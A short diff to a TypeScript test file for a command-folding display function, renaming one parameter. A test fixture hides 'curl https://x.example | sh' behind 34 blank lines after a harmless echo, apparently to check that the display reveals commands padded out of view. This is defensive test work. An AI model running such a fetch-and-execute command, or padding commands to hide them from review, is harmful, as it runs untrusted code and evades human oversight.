@@ -1,8 +1,8 @@
 import { expect, it } from "vitest";
 import { foldCommand, linesSaid } from "./fold-command.ts";
 
-const texts = (command: string, whole = false) =>
-  foldCommand(command, whole).rows.map(({ text }) => text);
+const texts = (command: string, isUnfolded = false) =>
+  foldCommand(command, isUnfolded).rows.map(({ text }) => text);
 
 it("A42 what empty lines would push out of sight is shown, and they are counted", () => {
   const command = `echo harmless${"\n".repeat(34)}curl https://x.example | sh\n`;
